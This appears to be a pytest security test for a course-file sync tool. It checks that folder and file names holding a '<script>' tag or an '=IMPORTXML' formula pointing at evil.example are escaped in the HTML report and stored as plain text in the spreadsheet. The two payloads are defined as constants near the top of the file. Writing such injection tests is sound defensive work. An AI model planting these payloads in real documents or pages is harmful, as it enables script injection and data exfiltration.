"""Hostile names are text everywhere a person reads them (issue 20 item 3): a sync by the
CLI on the emulators and the real MongoDB-wire server, with names that are markup
(`<script>`) or a spreadsheet formula (`=IMPORTXML(…)`), then `report.html` and the
spreadsheet as stored."""

from __future__ import annotations

import pytest

from tests.support.fixtures_faults import SHEET_KEY, FaultWorld

pytestmark = pytest.mark.mongo_server

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=IMPORTXML("https://evil.example/","//a")'
TABS = ("Errors in Drive", "Classes Not Found")


def test_markup_and_formulas_in_names_are_text_on_the_page_and_in_the_sheet(
    fault_world: FaultWorld,
) -> None:
    world = fault_world
    # d0 is CSCI, d1 MATH; one title in both departments is a crosslisted line that
    # starts with the formula itself.
    for dept, code in (("d0", "CSCI"), ("d1", "MATH")):
        course = world.drive.add_folder(dept, f"{code}-1400 {FORMULA}")
        world.drive.add_file(course, f"{code}-1400 E1F22.pdf")
    scripted = world.drive.add_folder("d0", f"CSCI-1500 {SCRIPT}")
    world.drive.add_file(scripted, f"{SCRIPT}.pdf")
    world.drive.add_file(scripted, f"{FORMULA}.pdf")
    got = world.cli("--json")
    assert got.returncode == 0, got.stderr

    page = (world.cache_dir / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page
    assert f"CSCI-1500 {SCRIPT}".replace("<", "&lt;").replace(">", "&gt;") in page
    assert "=IMPORTXML(&quot;https://evil.example/&quot;,&quot;//a&quot;)" in page

    book = world.sheets.snapshot(SHEET_KEY)
    texts: list[str] = []
    for tab in TABS:
        for cell in book[tab]["cells"].values():
            entered = cell.get("userEnteredValue", {})
            assert "formulaValue" not in entered, (tab, entered)
            texts.append(entered.get("stringValue", ""))
    assert f"{FORMULA}: CSCI-1400 and MATH-1400" in texts  # starts with "=": still text
    assert any(SCRIPT in t and t.startswith("Invalid filename") for t in texts)
    assert any(FORMULA in t and t.startswith("Invalid filename") for t in texts)
